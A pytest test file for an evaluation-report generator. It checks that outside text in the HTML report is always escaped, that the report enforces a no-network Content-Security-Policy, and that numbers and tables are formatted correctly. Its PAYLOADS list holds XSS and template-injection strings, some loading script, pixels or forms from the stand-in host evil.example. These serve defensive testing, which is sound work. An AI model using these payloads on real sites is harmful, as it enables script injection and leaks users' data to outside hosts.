"""The page shows what it is given, nothing else, and cannot be made to do anything by what it shows."""

import base64
import hashlib
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import raypipe.findings.page
from raypipe.evaluation.agreement import Agreement
from raypipe.evaluation.conformal import Sets, TaskSets
from raypipe.evaluation.layer_scores import BestLayer, LayerScore, Selectivity
from raypipe.evaluation.metrics import Metrics
from raypipe.evaluation.operating_point import Bin, Calibration, ClassRates, Rate, TaskAnswers
from raypipe.evaluation.uncertainty import ComparisonResult, Estimate, PairedDifference
from raypipe.findings.gates import Gate
from raypipe.findings.known_words import AgreementRow
from raypipe.findings.material import Material, StepTime
from raypipe.findings.page import figures
from raypipe.findings.page import html as page_module
from raypipe.findings.page.heatmap import MAX_CHARS, HeatMap, Panel, stretches
from raypipe.findings.page.html import html
from raypipe.findings.page.report import ArmRow, Report, arm_rows, verdict
from raypipe.findings.page.terms import SECTIONS, TERMS
from raypipe.findings.page.text import text_table
from raypipe.findings.page.write import write_report
from raypipe.findings.probing import Probing
from raypipe.findings.training_curves import Curve

NOTE = "Nega febbre e tosse."

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\x0c>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "x<img src=x onerror=alert(1)>y",
    '<img src="https://evil.example/pixel.png">',
    "<img/src=x/onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert`1`>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=https://evil.example/x.swf>",
    "<a href=javascript:alert(1)>click</a>",
    '<a href="https://evil.example">click</a>',
    "<form action=https://evil.example><input type=submit>",
    "<base href=https://evil.example/>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example)}</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</details></section><h1>Approved</h1>",
    "<!--<script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus=alert(1) x="',
    '" style="background:url(https://evil.example)',
    "` onerror=alert(1) `",
    "javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ report.__init__.__globals__ }}",
    "${7*7}",
    "$\\frac{1}{0}$",
    "$",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<video><source onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
    "<button popovertarget=x onclick=alert(1)>",
]
TAGS = set(
    re.findall(
        r"\w+",
        "html head meta title style body main h1 h2 h3 p section div table thead tbody tr th td span br sup ul li "
        "picture source img details summary header dl dt dd pre strong i b footer script",
    )
)
SVG_TAGS = re.findall(r"\w+", "svg metadata RDF Work type format defs style g path text use rect clipPath")


def estimate(value, width=0.02, caveats=()):
    return Estimate(value, value - width, value + width, 5, 12, caveats, "jointly")


def difference(arm, value, width=0.02, caveats=()):
    return PairedDifference(arm, "sft", estimate(value, width, caveats), {"t": value}, 9, 1, 2, 0.01, 0.02)


def probing(arm):
    """Two layers, two poolings, the backbone and one arm at both stages."""
    students = ["backbone", f"train/{arm}", f"finetune/{arm}"]
    scores = [
        LayerScore(student, layer, pooling, estimate(0.5 + layer / 10), 0.6, Selectivity(0.6, 0.45, 100, 12))
        for layer in (0, 1)
        for pooling in ("last", "mean")
        for student in students
    ]
    best = [BestLayer(score, None if score.student == "backbone" else estimate(0.02)) for score in scores[6:9]]
    return Probing("logistic", tuple(scores), tuple(best))


def task_answers(word):
    rate = Rate(0.5, 0.3, 0.7)
    rates = ClassRates(word, 10, rate, rate, rate, Rate(None, None, None), rate)
    return TaskAnswers(word, (word, "no"), 40, ((4.5, 5.5, 0), (0, 30, 0)), (rates,), ("no",))


def full_report(word="plain", caveats=()):
    """Every section filled; `word` wherever text comes from outside."""
    other = word + " 2"
    agreement = Agreement(0.15, 0.4, (0.35, 0.45), 0.1, 0.2, (0.15, 0.25), 0.5, (0.45, 0.55), 0.25, 300, 100)
    heat_map = HeatMap(
        word, word, [(0, len(word))], [Panel(word, [(0, len(word))], [1.0], word)], [(0, len(word))], word
    )
    return Report(
        title=word,
        subtitle=word,
        summary=word,
        reference="sft",
        arms=(
            ArmRow("sft", estimate(0.62), auc=0.81, pooled_macro_f1=0.6),
            ArmRow(other, estimate(0.67), difference(other, 0.05, caveats=caveats), 0.85, 0.66, 0.68, 0.69),
        ),
        meanings={other: word},
        tasks={"sft": {word: estimate(0.62)}, other: {word: estimate(0.67)}},
        answers={other: {word: task_answers(word)}},
        calibration={other: Calibration((Bin(0.7, Rate(0.6, 0.5, 0.7), 40), Bin(0.9, Rate(0.8, 0.7, 0.9), 40)), 0.1)},
        curves=(
            Curve(f"train/{word}", (1, 2), (3.0, 2.0), (1e-3, 5e-4), ((2, 2.5),)),
            Curve(f"finetune/{word}", (1, 2), (3.0, 2.0), (1e-3, 5e-4), (), ((1, 0.4), (2, 0.6))),
        ),
        gates=(Gate(word, 0.08, 0.0, True, word),),
        agreement=(AgreementRow(word, agreement),),
        conformal={word: Sets(0.1, "lac", 0.91, 1.2, 0.8, (TaskSets(word, 50, 80, 0.4, 0.91, 1.2, 2, 0.8),))},
        probing=probing(other),
        heat_maps=(heat_map,),
        material=(Material(word, 0.15, 100, 200, 300, 40),),
        steps=(StepTime(word, 75.2, word),),
        counts={word: 12345},
        dead_letters={word: 3},
        remarks={word: word},
        facts={word: word},
        config=word,
    )


class Page(HTMLParser):
    """Tags with attribute names in order, attributes, and visible text."""

    def __init__(self, source):
        super().__init__()
        self.skeleton, self.attributes, self.text = [], [], ""
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        self.skeleton.append((tag, *(name for name, _ in attrs)))
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data):
        self.skeleton.append(("!--",))

    def handle_data(self, data):
        self.text += data


SVG_START = "data:image/svg+xml;base64,"
HARMLESS = Page(html(full_report()))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_outside_text_never_becomes_markup(payload, monkeypatch):
    # what stands inside the charts is the next test's; drawing them 64 times is slow
    monkeypatch.setattr(figures, "chart", lambda draw, alt: figures.Chart(SVG_START, SVG_START, alt))
    page = Page(html(full_report(payload)))
    # the same tags and attributes, in the same order, as with a harmless word
    assert page.skeleton == HARMLESS.skeleton
    assert {tag for tag, *_ in page.skeleton} <= TAGS
    assert not [a for a in page.attributes if a[1].startswith("on") or a[1] in ("href", "action", "formaction")]
    for tag, name, value in page.attributes:
        if name in ("src", "srcset"):
            assert value.startswith(SVG_START), tag
        if name == "style":
            assert re.fullmatch(r"(width|left): \d+\.\d%", value)
    shown = re.sub("[\x00\x0c\ud800\u202e]", "\ufffd", payload)
    assert page.text.count(shown) >= 15  # as it is, everywhere


@pytest.mark.parametrize("payload", [*PAYLOADS[:12], "$\\frac{1}{0}$", "]]><script>"])
def test_charts_hold_text_only(payload):
    for _, name, value in Page(html(full_report(payload))).attributes:
        if name in ("src", "srcset"):
            svg = base64.b64decode(value.split(",", 1)[1])
            for element in ElementTree.fromstring(svg).iter():
                assert element.tag.rsplit("}")[-1] in SVG_TAGS
                assert not [a for a in element.attrib if a.rsplit("}")[-1].startswith("on")]
                assert all(v.startswith("#") for a, v in element.attrib.items() if a.endswith("href"))


def test_needs_no_network_and_forbids_it():
    source = html(full_report())
    assert not re.findall(r"https?:|//[a-z]|@import|url\(", source)
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', source).group(1)
    assert policy.startswith("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
    (script,) = re.findall(r"<script>(.*?)</script>", source, flags=re.DOTALL)
    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
    assert f"script-src 'sha256-{digest}';" in policy  # this script and no other
    assert source.index("Content-Security-Policy") < source.index("<style>")


def test_nothing_is_marked_safe():
    for path in Path(raypipe.findings.page.__file__).parent.iterdir():
        if path.suffix in (".py", ".html"):
            assert not re.search(r"\|\s*safe\b|Markup|autoescape=False|autoescape false", path.read_text()), path


def test_empty_sections_are_not_shown():
    page = Page(html(Report(title="Only a title")))
    assert not {tag for tag, *_ in page.skeleton} & {"section", "table", "img", "details"}
    assert "Only a title" in page.text
    assert text_table(Report(title="x")) == ""
    only_gates = html(Report(title="x", gates=(Gate("g", None, None, None),)))
    assert re.findall(r'<section id="([^"]+)"', only_gates) == ["gates"]


def test_full_page_has_every_section_in_reading_order():
    found = re.findall(r'<section id="([^"]+)"', html(full_report()))
    order = "result gates tasks answers calibration agreement conformal probing heat-maps training material run"
    assert found == order.split()


def test_numbers_are_points_with_intervals():
    text = " ".join(Page(html(full_report())).text.split())
    assert "67.0 [65.0, 69.0]" in text
    assert "+5.0 [+3.0, +7.0]" in text
    assert "9 / 1 / 2" in text
    assert "40.0 % [35.0, 45.0]" in text
    assert "1 min 15 s" in text
    packed = "".join(text.split())  # cells stand side by side
    assert "plain90.0%91.0%1.2080.0%91.0%" in packed
    assert "plain2,afterfine-tuning1last60.0[58.0,62.0]+2.0[+0.0,+4.0]45.015.0" in packed


def test_a_gate_that_need_not_be_measurable_forbids_nothing():
    report = full_report()
    report = Report(**{**vars(report), "gates": (Gate("words", None, 0, None, is_needed=False),)})
    assert verdict(report.arms[1], report) == "better"
    report = Report(**{**vars(report), "gates": (Gate("words", -1, 0, False, is_needed=False),)})
    assert verdict(report.arms[1], report) == "not measurable"


@pytest.mark.parametrize("passed", [False, None])
def test_a_failed_gate_forbids_a_ranking(passed):
    report = full_report()
    report = Report(**{**vars(report), "gates": (Gate("ok", 1, 0, True), Gate("bad", 0, 1, passed))})
    assert verdict(report.arms[1], report) == "not measurable"
    source = html(report)
    assert "cannot be ranked" in source
    assert ">better<" not in source
    assert "Differences from sft" not in source  # the chart that invites a ranking
    assert "better" not in text_table(report)
    assert "cannot be ranked" not in html(full_report())


def test_verdicts():
    report = full_report()
    say = lambda value, width, *caveats: verdict(  # noqa: E731
        ArmRow("x", estimate(0.6), difference("x", value, width, caveats)), report
    )
    assert say(0.05, 0.02) == "better"
    assert say(-0.05, 0.02) == "worse"
    assert say(0.01, 0.02) == "no clear difference"
    assert say(0.05, 0.02, "single_run") == "one run only"
    assert say(0.05, 0.02, "single_seed") == "one seed only"
    assert say(0.05, 0.02, "few_tasks", "too_few_tasks") == "too few tasks"
    unsure = replace(difference("x", 0.05, 0.02, ()), p_holm=0.2)
    assert verdict(ArmRow("x", estimate(0.6), unsure), report) == "no clear difference"
    assert verdict(report.arms[0], report) == "reference"


def test_caveats_are_spelled_out():
    report = full_report(caveats=("single_run", "few_tasks"))
    for shown in (Page(html(report)).text, text_table(report)):
        assert "lacks run-to-run noise" in shown
        assert "fewer than 10 tasks" in shown
        assert "fewer than 5 runs" not in shown
    assert "†§" in Page(html(report)).text


@pytest.mark.parametrize(
    ("have_it", "shown"), [("b", "note on b:"), ("ab", "note on a, b:"), ("abc", "on all but d:"), ("abcd", "note:")]
)
def test_the_terminal_says_whose_a_caveat_is(have_it, shown):
    few = replace(estimate(0.6), caveats=("few_runs",))
    report = Report(title="x", arms=tuple(ArmRow(a, few if a in have_it else estimate(0.6)) for a in "abcd"))
    (note,) = [line for line in text_table(report).splitlines() if "note" in line]
    assert f"{shown} fewer than 5 runs" in note


def test_pairs_and_budgets_are_shown():
    report = full_report()
    pair = PairedDifference("x", "<y>", estimate(-0.031, 0.01), {"t": -0.031}, 1, 2, 9, 0.001, 0.0321)
    budgets = {"8": {"plain": estimate(0.51)}, "all": {"plain": estimate(0.62)}}
    report = Report(**{**vars(report), "pairs": (pair,), "budgets": budgets})
    page, table = " ".join(Page(html(report)).text.split()), re.sub(" +", " ", text_table(report))
    assert "x<y> \N{MINUS SIGN}3.1 [\N{MINUS SIGN}4.1, \N{MINUS SIGN}2.1] 1 / 2 / 90.032 worse" in page
    assert "plain51.0 [49.0, 53.0]62.0 [60.0, 64.0]" in page
    assert "x <y> -3.1 [-4.1, -2.1] 1/2/9 0.032 worse" in table
    assert "plain 51.0 [49.0, 53.0] 62.0 [60.0, 64.0]" in table


def test_text_table_is_aligned():
    lines = text_table(full_report("arm\x1b[31m")).splitlines()
    assert lines[0].split("  ")[0] == "arm"
    assert "67.0 [65.0, 69.0] +5.0 [+3.0, +7.0] 9/1/2 85.0 better" in re.sub(" +", " ", lines[3])
    assert "0.020 68.0 69.0" in re.sub(" +", " ", "\n".join(lines))
    assert lines[0].index("verdict") == lines[2].index("reference") == lines[3].index("better")
    assert "\x1b" not in "".join(lines)


def test_text_tables_fit_a_terminal_and_cut_nothing():
    long = "specialty_cardiovascular_pulmonary_and_something_else, label_margin, layer 12"
    report = full_report(long)
    text = text_table(replace(report, summary=long * 4, remarks={long: long * 3}))
    assert max(map(len, text.splitlines())) <= 100
    assert "layer" in text
    assert all(part in text for part in ("specialty_", "cardiovascular", "pulmonary"))
    of_arms = text_table(Report(title="x", arms=tuple(ArmRow(a, estimate(0.6)) for a in ("sft", "decselfmask"))))
    assert of_arms.splitlines()[0].split() == [
        "arm",
        "macro",
        "F1",
        "95",
        "%",
        "interval",
        "vs",
        "sft",
        "95",
        "%",
        "interval",
        "W/T/L",
        "AUC",
        "verdict",
    ]


def test_one_answer_for_all_notes_is_a_warning_on_the_page_and_on_the_terminal():
    report = full_report("t")
    (sentence,) = report.single_answers
    assert sentence == "t 2: one answer for every note, whatever it says, in 1 of 1 tasks: t (no)"
    assert f"  warning: {sentence}" in text_table(report)
    assert f"{sentence}." in Page(html(report)).text
    varied = replace(task_answers("t"), only_answers=())
    fine = replace(report, answers={"a": {"t": varied}})
    assert "warning" not in text_table(fine)
    assert "do not depend on the note" not in html(fine)
    many = replace(report, answers={arm: {f"t{i}": task_answers(f"t{i}") for i in range(7)} for arm in "ab"})
    (both,) = many.single_answers
    assert both.startswith("a, b: one answer")
    assert both.endswith("t4 (no) and 2 more")


def test_codes_are_shown_as_the_model_words_them():
    answers = {"a": {"fever": replace(task_answers("1"), task_id="fever", only_answers=("1",))}}
    tasks = {"a": {"fever": estimate(0.5)}}
    report = Report("x", tasks=tasks, answers=answers, wordings={"fever": {"1": "sì", "no": "no"}})
    text = " ".join(Page(html(report)).text.split())
    assert next(report.single_answers).endswith("in 1 of 1 tasks: fever (1 = sì)")
    assert "one answer only1 = sì10" in text
    assert "no 5.5, 1 = sì 4.5" in text, "a label that says what it means stays as it is"


def test_rates_and_confusion_stand_on_the_page():
    text = " ".join(Page(html(full_report("t"))).text.split())
    assert "50.0[30.0, 70.0]" in text
    assert "no 5.5, t 4.5" in text
    assert TaskAnswers("t", ("a", "b"), 9, ((9.0, 0, 0.5), (0, 0, 0)), (), ()).given(0) == "a 9, none of these 0.5"


def test_every_section_explains_its_words():
    source = html(full_report())
    for section in re.findall(r'<section id="([^"]+)".*?</section>', source, flags=re.DOTALL):
        body = source[source.index(f'<section id="{section}"') :].partition("</section>")[0]
        assert 'class="terms"' in body or section == "run"
    assert set(TERMS) == {name for names in SECTIONS.values() for name in names}


def test_files_hold_the_same_numbers_and_json_no_note_text(tmp_path):
    heat_map = HeatMap("n1", NOTE, [(0, 4)], [Panel("x")])
    report = full_report()
    report = Report(**{**vars(report), "heat_maps": (heat_map,), "gates": (Gate("g", float("nan"), 0.0, None),)})
    path = write_report(report, tmp_path / "deep" / "report")
    assert path == tmp_path / "deep" / "report" / "report.html"
    assert path.read_text(encoding="utf-8") == html(report)
    raw = (path.parent / "metrics.json").read_text(encoding="utf-8")
    values = json.loads(raw, parse_constant=lambda name: pytest.fail(f"{name} is not JSON"))
    assert values["arms"][1]["difference"]["estimate"]["value"] == 0.05
    assert values["gates"][0]["measured"] is None
    assert "heat_maps" not in values
    assert "febbre" not in raw
    assert "febbre" in path.read_text(encoding="utf-8").replace("</span>", "")


def test_the_same_report_gives_the_same_bytes():
    assert html(full_report()) == html(full_report())


def test_many_tasks_are_cut_in_the_chart_and_complete_in_the_table():
    ids = [f"task_{i:03d}" for i in range(60)]
    tasks = {arm: {t: estimate(0.5 + i / 200 * k) for i, t in enumerate(ids)} for k, arm in enumerate(("sft", "x"))}
    page = Page(html(Report(title="x", tasks=tasks)))
    assert all(page.text.count(t) == 1 for t in ids)
    assert "The 40 of 60 tasks on which the arms differ most" in " ".join(page.text.split())
    svg = base64.b64decode(next(v for _, n, v in page.attributes if n == "src").split(",")[1]).decode()
    assert "task_059" in svg
    assert "task_000" not in svg


def test_every_arm_is_on_a_chart_beside_the_reference():
    tasks = {arm: {"t": estimate(0.6)} for arm in ["sft", *(f"arm_{i:02d}" for i in range(15))]}
    charts = figures.per_task(tasks, "sft")
    drawn = [base64.b64decode(chart.light.split(",")[1]).decode() for chart in charts]
    assert len(drawn) == 3
    assert all("sft" in svg for svg in drawn)
    assert sorted(arm for svg in drawn for arm in tasks if f">{arm}<" in svg and arm != "sft") == sorted(tasks)[:-1]


def test_arm_rows_average_runs():
    metrics = [Metrics(0.6, 0.5, auc, None, None, 0.9, ()) for auc in (0.7, 0.8, None)]
    comparison = ComparisonResult("macro_f1", {"sft": estimate(0.6), "x": estimate(0.7)}, {}, (difference("x", 0.1),))
    sft, x = arm_rows(comparison, {"sft": metrics, "x": metrics[:1]}, "sft")
    assert (sft.auc, sft.matched_f1, sft.difference) == (pytest.approx(0.75), None, None)
    assert x.difference.arm == "x"


def spans_of(draw, length):
    edges = sorted(draw(st.sets(st.integers(0, length), max_size=12)))
    return list(zip(edges[::2], edges[1::2], strict=False))


@st.composite
def heat_maps(draw):
    text = draw(st.text(max_size=40))
    words = spans_of(draw, len(text))
    relevance = draw(st.lists(st.floats(-5, 5), min_size=len(words), max_size=len(words)))
    panel = Panel("x", spans_of(draw, len(text)), relevance)
    offset = st.integers(0, len(text))
    overlapping = draw(st.lists(st.tuples(offset, offset), max_size=4))
    return HeatMap("t", text, words, [panel], [(min(span), max(span)) for span in overlapping]), panel


@given(heat_maps())
@settings(max_examples=200, deadline=None)
def test_heat_map_keeps_every_character_where_it_is(drawn):
    heat_map, panel = drawn
    shown, boxed, underlined = "", set(), set()
    for stretch in stretches(heat_map, panel):
        for piece in stretch.pieces:
            here = range(len(shown), len(shown) + len(piece.text))
            shown += piece.text
            boxed |= set(here) if stretch.is_hidden else set()
            underlined |= set(here) if "decides" in piece.classes else set()
    assert len(shown) == len(heat_map.text)
    assert all(a == b or b == "\ufffd" for a, b in zip(heat_map.text, shown, strict=True))
    chars = lambda spans: {i for a, b in spans for i in range(a, b)}  # noqa: E731
    assert boxed == chars(panel.hidden)
    assert underlined == chars(heat_map.deciding) & chars(heat_map.words)


def test_heat_map_shades_say_sign_and_size():
    words = [(0, 4), (5, 11), (14, 19)]
    panel = Panel("x", [(5, 19)], [0.5, -1.0, 0.01])
    heat_map = HeatMap("t", NOTE, words, [panel], [(5, 11)])
    pieces = [p for s in stretches(heat_map, panel) for p in s.pieces if p.title]
    assert [(p.text, p.classes, p.title) for p in pieces] == [
        ("Nega", "p4", "relevance +0.5"),
        ("febbre", "n8 decides", "relevance -1, decides, hidden"),
        ("tosse", "", "relevance +0.01, hidden"),
    ]
    assert [s.is_hidden for s in stretches(heat_map, panel)] == [False, True, False]
    assert [p.classes for s in stretches(heat_map, Panel("random")) for p in s.pieces] == [
        "",
        "",
        "decides",
        "",
        "",
        "",
    ]


def test_two_hidden_spans_side_by_side_are_two_boxes():
    heat_map = HeatMap("t", "ab", [(0, 1), (1, 2)], [Panel("x", [(0, 1), (1, 2)])])
    assert [s.is_hidden for s in stretches(heat_map, heat_map.panels[0])] == [True, True]


def test_long_notes_are_cut_on_the_page():
    text = "parola " * MAX_CHARS
    heat_map = HeatMap(
        "t", text, [(7 * i, 7 * i + 6) for i in range(MAX_CHARS)], [Panel("x", [(0, 6), (70_000, 70_005)])]
    )
    assert sum(len(p.text) for s in stretches(heat_map, heat_map.panels[0]) for p in s.pieces) == MAX_CHARS
    assert "…" in html(Report(title="x", heat_maps=(heat_map,)))


@pytest.mark.parametrize(
    ("function", "value", "text"),
    [
        (page_module.points, None, "\u2013"),
        (page_module.points, -0.0312, "\u22123.1"),
        (page_module.signed, -0.0312, "\u22123.1"),
        (page_module.plain, 0.05, "0.05"),
        (page_module.plain, 0.0, "0"),
        (page_module.plain, 120.0, "120"),
        (page_module.duration, 3725, "1 h 02 min"),
        (page_module.duration, 59.97, "60.0 s"),
        (page_module.count, None, "\u2013"),
    ],
)
def test_formats(function, value, text):
    assert function(value) == text
